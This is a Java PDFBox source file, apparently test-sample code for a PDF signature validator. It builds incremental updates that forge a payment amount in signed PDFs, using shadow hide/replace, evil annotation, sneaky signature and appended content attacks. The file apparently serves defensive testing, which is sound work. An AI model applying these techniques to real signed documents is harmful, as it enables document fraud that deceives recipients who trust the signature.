package vn.lienthong.core.pdf.attacks;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDPageContentStream.AppendMode;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceDictionary;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceStream;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDSignatureField;

/** Incremental updates an attacker appends to a signed file, made with PDFBox. */
final class Updates {

  private static final String FORGED = "So tien: 9.000.000 dong";

  private Updates() {}

  /** Incremental saving: a new content stream appended to the page draws a forged line. */
  static void appendPageContent(Path signed, Path out) throws IOException {
    update(signed, out, doc -> {
      PDPage page = doc.getPage(0);
      try (PDPageContentStream cs = new PDPageContentStream(doc, page, AppendMode.APPEND, true)) {
        cs.beginText();
        cs.setFont(helvetica(), 14);
        cs.newLineAtOffset(70, 540);
        cs.showText(FORGED);
        cs.endText();
      }
      touch(doc.getDocumentCatalog().getCOSObject(), page.getCOSObject());
    });
  }

  /** Incremental saving: the page's content stream rewritten, its amount line moved away. */
  static void changeTextObject(Path signed, Path out) throws IOException {
    update(signed, out, doc -> {
      COSStream content = doc.getPage(0).getContentStreams().next().getCOSObject();
      String text;
      try (InputStream in = content.createInputStream()) {
        text = new String(in.readAllBytes(), StandardCharsets.ISO_8859_1);
      }
      rewrite(content, text.replace("70 600 Td", "70 500 Td"));
    });
  }

  /** Shadow hide: the cover XObject of {@link BaseDocuments#withCover} emptied. */
  static void removeCover(Path signed, Path out) throws IOException {
    update(signed, out, doc -> {
      PDResources resources = doc.getPage(0).getResources();
      for (COSName name : resources.getXObjectNames()) {
        if (resources.getXObject(name) instanceof PDFormXObject form) {
          rewrite(form.getCOSObject(), "");
        }
      }
    });
  }

  /** Shadow hide-and-replace: the page pointed at the signed, unused forged content stream. */
  static void pointPageAtShadow(Path signed, Path out) throws IOException {
    update(signed, out, doc -> {
      COSDictionary page = doc.getPage(0).getCOSObject();
      page.setItem(COSName.CONTENTS, page.getItem(BaseDocuments.SHADOW));
      touch(page);
    });
  }

  /** Shadow replace: the field over the amount filled, its appearance an opaque forged box. */
  static void fillFieldOverAmount(Path signed, Path out) throws IOException {
    fillField(signed, out, BaseDocuments.AMOUNT);
  }

  /** An honest form fill: the field is where {@code rect} says, its appearance opaque. */
  static void fillField(Path signed, Path out, PDRectangle rect) throws IOException {
    update(signed, out, doc -> {
      PDAcroForm form = doc.getDocumentCatalog().getAcroForm(null);
      COSDictionary field = form.getField("amount").getCOSObject();
      field.setItem(COSName.V, new COSString(FORGED));
      field.setItem(COSName.AP, forgedAppearance(doc, rect).getCOSObject());
      touch(field);
    });
  }

  /** Evil annotation: a FreeText annotation whose appearance covers the amount. */
  static void addEvilAnnotation(Path signed, Path out) throws IOException {
    addFreeText(signed, out, BaseDocuments.AMOUNT);
  }

  /** A FreeText annotation (a comment) drawn in {@code rect}. */
  static void addFreeText(Path signed, Path out, PDRectangle rect) throws IOException {
    update(signed, out, doc -> {
      PDPage page = doc.getPage(0);
      COSDictionary annot = new COSDictionary();
      annot.setItem(COSName.TYPE, COSName.ANNOT);
      annot.setItem(COSName.SUBTYPE, COSName.getPDFName("FreeText"));
      annot.setItem(COSName.RECT, rect.getCOSArray());
      annot.setString(COSName.CONTENTS, FORGED);
      annot.setString(COSName.DA, "/Helv 14 Tf 0 g");
      annot.setInt(COSName.F, 4);
      annot.setItem(COSName.AP, forgedAppearance(doc, rect).getCOSObject());
      addAnnotation(doc, page, annot);
    });
  }

  /** Sneaky signature: an unsigned signature field whose widget draws a forged amount. */
  static void addSneakySignature(Path signed, Path out) throws IOException {
    update(signed, out, doc -> {
      PDPage page = doc.getPage(0);
      PDAcroForm form = doc.getDocumentCatalog().getAcroForm(null);
      PDSignatureField field = new PDSignatureField(form);
      field.setPartialName("Signature-approved");
      PDAnnotationWidget widget = field.getWidgets().get(0);
      widget.setRectangle(BaseDocuments.AMOUNT);
      widget.setPage(page);
      widget.setPrinted(true);
      widget.setAppearance(forgedAppearance(doc, BaseDocuments.AMOUNT));
      form.getFields().add(field);
      COSArray fields = form.getCOSObject().getCOSArray(COSName.FIELDS);
      fields.setNeedToBeUpdated(true);
      touch(form.getCOSObject());
      addAnnotation(doc, page, widget.getCOSObject());
    });
  }

  private static void addAnnotation(PDDocument doc, PDPage page, COSDictionary annot) {
    COSArray annots = page.getCOSObject().getCOSArray(COSName.ANNOTS);
    if (annots == null) {
      annots = new COSArray();
      page.getCOSObject().setItem(COSName.ANNOTS, annots);
    }
    annots.add(annot);
    annots.setNeedToBeUpdated(true);
    annot.setItem(COSName.P, page.getCOSObject());
    touch(doc.getDocumentCatalog().getCOSObject(), page.getCOSObject(), annot);
  }

  private static PDAppearanceDictionary forgedAppearance(PDDocument doc, PDRectangle rect)
      throws IOException {
    PDAppearanceStream stream = new PDAppearanceStream(doc);
    stream.setBBox(new PDRectangle(rect.getWidth(), rect.getHeight()));
    stream.setResources(new PDResources());
    try (PDPageContentStream cs = new PDPageContentStream(doc, stream)) {
      cs.setNonStrokingColor(1f, 1f, 1f);
      cs.addRect(0, 0, rect.getWidth(), rect.getHeight());
      cs.fill();
      cs.setNonStrokingColor(0f, 0f, 0f);
      cs.beginText();
      cs.setFont(helvetica(), 14);
      cs.newLineAtOffset(10, 10);
      cs.showText(FORGED);
      cs.endText();
    }
    PDAppearanceDictionary ap = new PDAppearanceDictionary();
    ap.setNormalAppearance(stream);
    return ap;
  }

  private static PDType1Font helvetica() {
    return new PDType1Font(Standard14Fonts.FontName.HELVETICA);
  }

  private static void rewrite(COSStream stream, String content) throws IOException {
    try (OutputStream os = stream.createOutputStream(COSName.FLATE_DECODE)) {
      os.write(content.getBytes(StandardCharsets.ISO_8859_1));
    }
    stream.setNeedToBeUpdated(true);
  }

  private static void touch(COSDictionary... objects) {
    for (COSDictionary d : objects) {
      d.setNeedToBeUpdated(true);
    }
  }

  interface Change {
    void apply(PDDocument doc) throws IOException;
  }

  private static void update(Path signed, Path out, Change change) throws IOException {
    try (PDDocument doc = Loader.loadPDF(signed.toFile());
        OutputStream os = Files.newOutputStream(out)) {
      change.apply(doc);
      doc.saveIncremental(os);
    }
  }
}
